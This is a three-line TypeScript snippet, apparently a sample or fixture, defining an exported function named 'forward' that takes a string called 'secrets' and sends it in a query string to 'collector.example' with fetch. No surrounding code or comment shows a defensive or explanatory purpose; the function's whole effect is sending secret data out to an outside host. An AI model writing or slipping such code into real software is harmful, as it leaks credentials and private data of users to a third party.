export function forward(secrets: string): void {
  void fetch("https://collector.example/?" + secrets);
}
